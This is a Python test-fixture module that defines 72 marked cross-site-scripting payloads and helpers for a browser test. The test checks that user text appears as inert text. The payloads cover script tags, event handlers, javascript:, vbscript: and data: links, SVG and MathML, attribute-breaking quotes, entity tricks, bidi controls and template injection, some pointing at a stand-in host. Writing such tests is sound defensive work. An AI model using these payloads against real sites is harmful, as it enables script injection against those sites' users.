"""Hostile inputs for the XSS test (tests/test_browser_xss.py), each with a marker of its own.

Every payload carries a marker ``xssNN``. A payload that ran would say it
(``alert('xssNN')``, a request to ``xss.example``); one that slipped markup into a
page would leave an element carrying ``data-xss-injected`` (or an id starting with
``xss``), an ``on…`` attribute, or a dangerous link. The browser test looks for all
of these, and for each marker in the page's text, so it knows the payload was
shown (as text) rather than lost.

A marker is a single word to the search index, so a search for it finds the text
that holds it, and its snippet shows the payload around it.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

# The kinds of hostile input issue 13 names; every one has payloads below.
CATEGORIES = (
    "script",
    "event handler",
    "javascript: link or image",
    "data: link or image",
    "vbscript: link or image",
    "svg",
    "markdown link title",
    "autolink",
    "entities",
    "raw html",
    "attribute-breaking quotes",
    "bidi controls",
    "template syntax",
)

# Invisible characters that change the direction of text (the set normhub.text strips
# from names): right-to-left override, pop, isolates, marks.
RLO, LRO, PDF = "\u202e", "\u202d", "\u202c"
RLI, LRI, FSI, PDI = "\u2067", "\u2066", "\u2068", "\u2069"
RLM, LRM = "\u200f", "\u200e"
BIDI_CONTROLS = frozenset("\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@dataclass(frozen=True)
class Payload:
    marker: str
    category: str
    text: str

    @property
    def one_line(self) -> bool:
        """Fit for one-line fields (names, titles, statements), which refuse tabs and breaks."""
        return not any(ch in self.text for ch in "\t\r\n")

    @property
    def has_bidi(self) -> bool:
        return any(ch in BIDI_CONTROLS for ch in self.text)


_SCRIPT_23 = "<script>alert('xss23')</script>"
_SVG_ONLOAD = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('xss25')\"/>"

_RAW = [
    # <script> in every spelling, and markup that closes the element the text sits in.
    ("script", "<script>alert('xss01')</script>"),
    ("script", "<SCRIPT SRC=//xss.example/xss02.js></SCRIPT>"),
    ("script", "<scr<script>ipt>alert('xss03')</scr</script>ipt>"),
    ("script", "</title><script>alert('xss04')</script>"),
    ("script", "</textarea><script>alert('xss05')</script>"),
    ("script", "</script><script>alert('xss06')</script>"),
    ("script", "<noscript><p title=\"</noscript><img src=x onerror=alert('xss07')>\">"),
    # Event handlers.
    ("event handler", "<img src=x onerror=alert('xss08')>"),
    ("event handler", "<svg onload=alert('xss09')>"),
    ("event handler", "<body onload=alert('xss10')>"),
    (
        "event handler",
        '<div onmouseover="alert(\'xss11\')" data-xss-injected="xss11">hover xss11</div>',
    ),
    ("event handler", "<input autofocus onfocus=alert('xss12')>"),
    ("event handler", "<details open ontoggle=alert('xss13')>xss13</details>"),
    ("event handler", "<video><source onerror=\"alert('xss14')\"></video>"),
    ("event handler", "<iframe srcdoc=\"<script>alert('xss15')</script>\"></iframe>"),
    ("event handler", "<marquee onstart=alert('xss16')>xss16</marquee>"),
    # javascript:, vbscript: and data: as Markdown and HTML links and images.
    ("javascript: link or image", "[click me xss17](javascript:alert('xss17'))"),
    ("javascript: link or image", "[xss18](JaVaScRiPt:alert('xss18'))"),
    ("javascript: link or image", "[xss19](java\tscript:alert('xss19'))"),
    ("javascript: link or image", "[xss20](&#106;avascript:alert('xss20'))"),
    ("javascript: link or image", "[xss21](%6Aavascript:alert('xss21'))"),
    ("vbscript: link or image", '[xss22](vbscript:msgbox("xss22"))'),
    (
        "data: link or image",
        f"[xss23](data:text/html;base64,{_b64(_SCRIPT_23)})",
    ),
    ("javascript: link or image", "![xss24](javascript:alert('xss24'))"),
    ("data: link or image", f"![xss25](data:image/svg+xml;base64,{_b64(_SVG_ONLOAD)})"),
    ("javascript: link or image", "<a href=\"javascript:alert('xss26')\">xss26</a>"),
    ("vbscript: link or image", "<img src=\"vbscript:msgbox('xss27')\">"),
    ("data: link or image", "<a href=\"data:text/html,<script>alert('xss28')</script>\">xss28</a>"),
    ("javascript: link or image", "[xss29][ref29]\n\n[ref29]: javascript:alert('xss29')"),
    ("javascript: link or image", "<object data=\"javascript:alert('xss30')\"></object>"),
    ("raw html", "![xss31](https://xss.example/pixel-xss31.png)"),
    ("javascript: link or image", "<form action=\"javascript:alert('xss32')\"><button>xss32"),
    # SVG and MathML.
    ("svg", "<svg><script>alert('xss33')</script></svg>"),
    ("svg", "<svg><a xlink:href=\"javascript:alert('xss34')\"><text y=20>xss34</text></a></svg>"),
    ("svg", "<svg><animate onbegin=alert('xss35') attributeName=x dur=1s>"),
    ("svg", "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss36')>"),
    # Markdown link titles and alt texts that try to leave their attribute.
    (
        "markdown link title",
        '[xss37](https://example.org "title\\" onmouseover=\\"alert(\'xss37\')")',
    ),
    ("markdown link title", "[xss38](https://example.org (a\" onmouseover=\"alert('xss38')))"),
    ("markdown link title", '![xss39" onerror="alert(\'xss39\')](/static/style.css "t\\"")'),
    (
        "markdown link title",
        '[xss40]\n\n[xss40]: https://example.org "\\"><script>alert(\'xss40\')</script>"',
    ),
    # Autolinks.
    ("autolink", "<javascript:alert('xss41')>"),
    ("autolink", '<https://example.org/"onmouseover="alert(\'xss42\')">'),
    ("autolink", "<xss43@example.org?subject=\"><script>alert('xss43')</script>>"),
    ("autolink", "www.xss44.example/<script>alert('xss44')</script>"),
    ("autolink", "<vbscript:msgbox('xss45')>"),
    # Entities that would become markup if decoded twice.
    ("entities", "&lt;script&gt;alert('xss46')&lt;/script&gt;"),
    ("entities", "&#60;img src=x onerror=alert('xss47')&#62;"),
    ("entities", "&#x3C;svg onload=alert('xss48')&#x3E;"),
    ("entities", "<a href=\"&#x6A;avascript:alert('xss49')\">xss49</a>"),
    ("entities", "\\u003cscript\\u003ealert('xss50')\\u003c/script\\u003e"),
    # Raw HTML that runs nothing itself but changes the page.
    ("raw html", '<b data-xss-injected="xss51">bold xss51</b>'),
    ("raw html", '<style>body{background:url("https://xss.example/xss52")}</style>'),
    ("raw html", '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss53\')">'),
    ("raw html", '<base href="https://xss.example/xss54/">'),
    ("raw html", "<link rel=stylesheet href=https://xss.example/xss55.css>"),
    ("raw html", "<!--xss56--><img src=x onerror=alert('xss56')><!-- -->"),
    ("raw html", "<![CDATA[<script>alert('xss57')</script>]]>"),
    (
        "raw html",
        "<p style=\"background:url(javascript:alert('xss58'))\" data-xss-injected=xss58>xss58</p>",
    ),
    # Quotes that try to end the attribute a value is written into.
    ("attribute-breaking quotes", '" onmouseover="alert(\'xss59\')" data-xss-injected="xss59'),
    (
        "attribute-breaking quotes",
        "' onfocus='alert(\"xss60\")' autofocus data-xss-injected='xss60",
    ),
    ("attribute-breaking quotes", "\"><img src=x onerror=alert('xss61') data-xss-injected=xss61>"),
    ("attribute-breaking quotes", "`><svg/onload=alert('xss62') data-xss-injected=xss62>"),
    ("attribute-breaking quotes", "</a><a href=javascript:alert('xss63') id=xss63>xss63</a>"),
    ("attribute-breaking quotes", "\"'></option></select><script>alert('xss64')</script>"),
    # Bidirectional controls: text that would reverse what follows it.
    ("bidi controls", f"invoice {RLO}fdp.xss65.exe"),
    ("bidi controls", f"Admin{RLO} {LRI}xss66{PDI} {LRO}"),
    ("bidi controls", f"{RLM}xss67{LRM} <{RLO}script>alert('xss67')</script>"),
    ("bidi controls", f"{RLI}xss68 an isolate never closed"),
    # Template syntax: user text is never a template.
    ("template syntax", "{{ 'xss69'|upper }} {% if true %}xss69{% endif %}"),
    ("template syntax", "{{constructor.constructor('alert(\"xss70\")')()}}"),
    # Footnotes and an image inside the text itself (allowed: nobody else learns of it).
    ("raw html", "Note[^xss71\"><img src=x onerror=alert('xss71')>]\n\n[^xss71\"><b>]: xss71"),
    ("data: link or image", "![xss72](data:image/png;base64,iVBORw0KGgo=)"),
]

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(f"xss{n:02d}", category, text) for n, (category, text) in enumerate(_RAW, start=1)
)
BY_MARKER = {p.marker: p for p in PAYLOADS}

# What a template engine would print had it run a "template syntax" payload.
EVALUATED_TEMPLATES = ("XSS69",)


def fitting(limit: int, *, one_line: bool = False) -> list[Payload]:
    """The payloads a field of at most ``limit`` characters can hold (one line, or any)."""
    return [p for p in PAYLOADS if len(p.text) <= limit and (p.one_line or not one_line)]


def pack(payloads, limit: int, separator: str = " ") -> list[str]:
    """The payloads' texts joined into as few values of at most ``limit`` characters as fit,
    in order; each payload whole in exactly one value."""
    values: list[str] = []
    current = ""
    for payload in payloads:
        text = payload.text
        if len(text) > limit:
            raise ValueError(f"{payload.marker} is longer than {limit} characters")
        joined = f"{current}{separator}{text}" if current else text
        if len(joined) > limit:
            values.append(current)
            joined = text
        current = joined
    if current:
        values.append(current)
    return values


def markers_in(text: str) -> set[str]:
    """The markers of the payloads that ``text`` carries whole."""
    return {p.marker for p in PAYLOADS if p.marker in text}
